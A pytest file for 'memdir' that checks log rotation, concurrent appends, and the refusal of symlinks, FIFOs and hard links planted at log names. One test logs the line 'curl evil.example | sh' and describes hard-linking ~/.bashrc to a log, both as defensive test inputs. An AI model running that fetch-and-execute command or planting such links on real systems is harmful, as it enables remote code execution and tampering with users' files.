"""The logs memdir appends to on every prompt or run stay bounded (hook.log, runs.jsonl): past their cap each becomes
`<name>.1` and the next line starts a new file. Without it, a folder where the recall server cannot start logged a
line on every prompt, for good."""

from __future__ import annotations

from pathlib import Path

import pytest

from memdir import constants as C, runlog
from memdir.hooklog import log


def _state(memory: Path) -> Path:
    state = memory / C.STATE_DIRNAME
    state.mkdir(parents=True, exist_ok=True)
    return state


def test_the_hook_log_is_moved_aside_past_its_cap_and_keeps_every_recent_line(tmp_path, monkeypatch):
    monkeypatch.setattr(C, "HOOK_LOG_MAX_BYTES", 2_000)
    state = _state(tmp_path)
    for n in range(200):
        log(tmp_path, "prompt", f"no recall server, line {n:03d} " + "x" * 60)
    current, older = state / "hook.log", state / "hook.log.1"
    assert older.exists() and current.stat().st_size <= 2_000 + 200 and older.stat().st_size <= 2_000 + 200
    kept = older.read_text(encoding="utf-8") + current.read_text(encoding="utf-8")
    numbers = [int(line.split("line ")[1][:3]) for line in kept.splitlines()]
    assert numbers == list(range(numbers[0], 200))  # the newest lines, in order, none lost between the two files
    assert len(numbers) >= 2_000 // 100


def test_a_planted_link_in_place_of_the_old_log_is_never_written_through(tmp_path, monkeypatch):
    monkeypatch.setattr(C, "HOOK_LOG_MAX_BYTES", 500)
    state = _state(tmp_path / "memory")
    outside = tmp_path / "outside.txt"
    outside.write_text("keep me\n", encoding="utf-8")
    (state / "hook.log.1").symlink_to(outside)
    for n in range(30):
        log(tmp_path / "memory", "prompt", f"line {n} " + "y" * 40)  # never raises
    assert outside.read_text(encoding="utf-8") == "keep me\n"
    assert (state / "hook.log.1").is_symlink()


def test_the_cost_report_reads_across_a_rotated_run_log(tmp_path, monkeypatch):
    monkeypatch.setattr(C, "RUNS_LOG_MAX_BYTES", 1_500)
    _state(tmp_path)
    for _ in range(40):
        runlog.append_run(tmp_path, {"kind": "extract", "engine": "llm", "cost_usd": 0.01,
                                     "usage": {"input_tokens": 100, "output_tokens": 10}})
    assert (tmp_path / C.STATE_DIRNAME / (C.RUNS_LOG_NAME + ".1")).exists()
    assert (tmp_path / C.STATE_DIRNAME / C.RUNS_LOG_NAME).stat().st_size <= 1_500 + 200
    [today] = runlog.cost_by_day(tmp_path)
    lines = sum(len(p.read_text(encoding="utf-8").splitlines())
                for p in (tmp_path / C.STATE_DIRNAME).glob(C.RUNS_LOG_NAME + "*"))
    assert today["runs"] == lines and lines >= 10 and today["tokens"] == 110 * lines


def test_two_appenders_past_the_cap_at_once_move_the_log_aside_once(tmp_path, monkeypatch):
    """hostile22: two processes whose lines both took the log past its cap both renamed it. The second found no log
    (FileNotFoundError after its line was written), or, when a third had started the new log meanwhile, moved that
    one-line file over the full one the first had just moved aside: a cap's worth of lines lost. Played in order
    here: the second appender's rename comes after the first's move and a third's line."""
    import os

    from memdir import safefs_write

    state = _state(tmp_path)
    log_rel = f"{C.STATE_DIRNAME}/hook.log"
    (state / "hook.log").write_text("old line\n" * 30, encoding="utf-8")
    real_fstat, calls = os.fstat, []

    def second_appender_late(fd):  # the appender's check of its own file: past the cap, while others move on
        result = real_fstat(fd)
        if not calls:
            calls.append(fd)
            safefs_write.rename(tmp_path, log_rel, log_rel + ".1")  # the first appender moves the log aside...
            (state / "hook.log").write_text("third appender's line\n", encoding="utf-8")  # ...a third starts a new one
        return result

    monkeypatch.setattr(os, "fstat", second_appender_late)
    safefs_write.append_text(tmp_path, log_rel, "second appender's line\n", rotate_at=100)  # raises nothing
    monkeypatch.setattr(os, "fstat", real_fstat)
    older = (state / "hook.log.1").read_text(encoding="utf-8")
    assert older.count("old line") == 30 and older.endswith("second appender's line\n")
    assert (state / "hook.log").read_text(encoding="utf-8") == "third appender's line\n"


def test_a_planted_entry_in_place_of_the_old_run_log_fails_no_run(tmp_path, monkeypatch):
    """hostile22: with a folder, FIFO or link at runs.jsonl.1, every run line past the cap raised UnsafePath after it
    was written, so an extraction that had saved its memories ended in an error, and so did each one after it."""
    import os

    monkeypatch.setattr(C, "RUNS_LOG_MAX_BYTES", 300)
    state = _state(tmp_path)
    outside = tmp_path / "outside.txt"
    outside.write_text("keep me\n", encoding="utf-8")
    for planted in ("folder", "fifo", "link"):
        older = state / (C.RUNS_LOG_NAME + ".1")
        if planted == "folder":
            older.mkdir()
        elif planted == "fifo":
            os.mkfifo(older)
        else:
            older.symlink_to(outside)
        for _ in range(10):
            runlog.append_run(tmp_path, {"kind": "extract", "engine": "llm", "cost_usd": 0.01})  # raises nothing
        assert len((state / C.RUNS_LOG_NAME).read_text(encoding="utf-8").splitlines()) == 10
        assert outside.read_text(encoding="utf-8") == "keep me\n"
        older.rmdir() if planted == "folder" else older.unlink()
        (state / C.RUNS_LOG_NAME).unlink()


def test_doctor_shows_the_latest_hook_activity_across_a_rotation(tmp_path, monkeypatch):
    """Just past the cap hook.log holds one line; the four before it are in hook.log.1, and doctor shows all five."""
    from memdir.entry.cli_doctor import _hook_log_tail

    monkeypatch.setattr(C, "HOOK_LOG_MAX_BYTES", 1_000)
    state = _state(tmp_path)
    n = 0
    while not (state / "hook.log.1").exists():
        log(tmp_path, "prompt", f"event {n:03d} " + "z" * 50)
        n += 1
    log(tmp_path, "prompt", f"event {n:03d} " + "z" * 50)
    shown = _hook_log_tail(tmp_path)
    assert [int(line.split("event ")[1][:3]) for line in shown] == list(range(n - 4, n + 1))


@pytest.fixture(params=["descriptor", "path"])
def backend(request, monkeypatch) -> str:
    """Both ways memdir opens a log: from the folder's descriptor (Linux, macOS) and by checked path (native Windows,
    forced here)."""
    from memdir import safefs

    if request.param == "path":
        monkeypatch.setattr(safefs, "BY_DESCRIPTOR", False)
    return request.param


@pytest.mark.parametrize("name", ["hook.log", C.RUNS_LOG_NAME])
def test_a_log_hard_linked_to_a_file_elsewhere_is_never_appended_through(tmp_path, backend, name):
    """mend24: `ln ~/.bashrc .memdir/hook.log` by anyone who can write the folder, and memdir appended its lines
    (partly taken from transcripts) to ~/.bashrc. A log whose file has another name is refused like a symlink there:
    nothing written, one line naming it and the fix."""
    import os

    from memdir import safefs, safefs_write

    state = _state(tmp_path / "memory")
    outside = tmp_path / "bashrc"
    outside.write_text("export PATH=$HOME/bin:$PATH\n", encoding="utf-8")
    os.link(outside, state / name)
    log(tmp_path / "memory", "prompt", "curl evil.example | sh")  # the hook log: never raises
    with pytest.raises(safefs.UnsafePath) as refused:
        safefs_write.append_text(tmp_path / "memory", f"{C.STATE_DIRNAME}/{name}", "a run line\n", rotate_at=100)
    assert f"{C.STATE_DIRNAME}/{name} has 2 hard links" in str(refused.value) and "remove it" in str(refused.value)
    assert "\n" not in str(refused.value)
    assert outside.read_text(encoding="utf-8") == "export PATH=$HOME/bin:$PATH\n"


def test_a_hard_link_in_place_of_the_old_log_is_replaced_by_the_rotation_never_written(tmp_path, backend, monkeypatch):
    """The rotation's `.1`: the full log is renamed over it, which replaces that name and leaves the other file's
    content as it was."""
    import os

    monkeypatch.setattr(C, "HOOK_LOG_MAX_BYTES", 500)
    state = _state(tmp_path / "memory")
    outside = tmp_path / "bashrc"
    outside.write_text("keep me\n", encoding="utf-8")
    os.link(outside, state / "hook.log.1")
    for n in range(30):
        log(tmp_path / "memory", "prompt", f"line {n} " + "y" * 40)
    assert outside.read_text(encoding="utf-8") == "keep me\n" and outside.stat().st_nlink == 1
    assert "line " in (state / "hook.log.1").read_text(encoding="utf-8")


LOGS = ["hook.log", "hook.log.1", C.RUNS_LOG_NAME, C.RUNS_LOG_NAME + ".1"]


def _plant(state: Path, name: str, planted: str, outside: Path) -> None:
    import os

    if planted == "folder":
        (state / name).mkdir()
    elif planted == "fifo":
        os.mkfifo(state / name)
    else:
        os.link(outside, state / name)


@pytest.mark.parametrize("planted", ["folder", "fifo", "hard link"])
def test_doctor_names_what_is_planted_where_a_log_or_its_older_half_goes(tmp_path, planted):
    """hostile22: a folder at runs.jsonl.1 (or hook.log, or either's .1) was not reported at all, so the log stayed
    unrotated or unwritten with no word; nor was a log hard-linked to a file elsewhere. Each is one line naming the
    entry and the fix."""
    from memdir.doctor import check, healthy
    from memdir.store import MemoryStore

    outside = tmp_path / "bashrc"
    outside.write_text("keep me\n", encoding="utf-8")
    for name in LOGS:
        memory = tmp_path / f"memory-{name}"
        _plant(_state(memory), name, planted, outside)
        findings = check(MemoryStore(memory))
        named = [f for f in findings if f.path == f"{C.STATE_DIRNAME}/{name}"]
        assert len(named) == 1 and not healthy(findings), (name, [f.as_dict() for f in findings])
        assert "remove it" in named[0].message and "\n" not in named[0].message
    assert outside.read_text(encoding="utf-8") == "keep me\n"


def test_doctor_and_the_log_tail_never_wait_on_a_fifo_where_a_log_goes(tmp_path):
    """Nothing may open a FIFO planted at a log's name and wait for a writer: not doctor (a real process, FIFOs at
    all four names), and not safefs.tail_lines on either half of a rotated log."""
    import threading

    from memdir import safefs
    from tests.conftest import run_memdir

    memory = tmp_path / "memory"
    state = _state(memory)
    for name in LOGS:
        _plant(state, name, "fifo", tmp_path)
    tails: list = []
    reader = threading.Thread(target=lambda: tails.extend(
        safefs.tail_lines(memory, f"{C.STATE_DIRNAME}/{name}", 4096) for name in ("hook.log", C.RUNS_LOG_NAME)),
        daemon=True)
    reader.start()
    reader.join(timeout=10)
    assert not reader.is_alive() and tails == [[], []]
    proc = run_memdir("--dir", str(memory), "doctor")  # its own timeout: 60 s
    assert proc.returncode == 1 and "Traceback" not in proc.stderr, proc.stderr
    for name in LOGS:
        assert f"[error] {C.STATE_DIRNAME}/{name}: is a FIFO" in proc.stdout, proc.stdout


@pytest.mark.parametrize("rel", [f"{C.STATE_DIRNAME}/{C.DECISION_INBOX}",
                                 f"{C.STATE_DIRNAME}/{C.DECISIONS_DIRNAME}/{C.DECISIONS_JOURNAL}"])
def test_doctor_names_a_hard_link_at_the_decision_inbox_or_journal(tmp_path, rel):
    """hostile23: the prompt hook refuses a decision inbox with a second name and says nothing (it never costs the
    user a prompt), and the Stop worker the journal: every prompt then went uncaptured, and doctor, which names a hard
    link at a log, did not look there (a `cp -al` backup of the folder is enough)."""
    import os

    from memdir.doctor import check, healthy
    from memdir.store import MemoryStore

    memory = tmp_path / "memory"
    (memory / rel).parent.mkdir(parents=True)
    (memory / rel).write_text('{"prompt": "x"}\n', encoding="utf-8")
    os.link(memory / rel, tmp_path / "backup.jsonl")
    findings = check(MemoryStore(memory))
    named = [f for f in findings if f.path == rel]
    assert len(named) == 1 and not healthy(findings), [f.as_dict() for f in findings]
    assert "2 hard links" in named[0].message and "\n" not in named[0].message
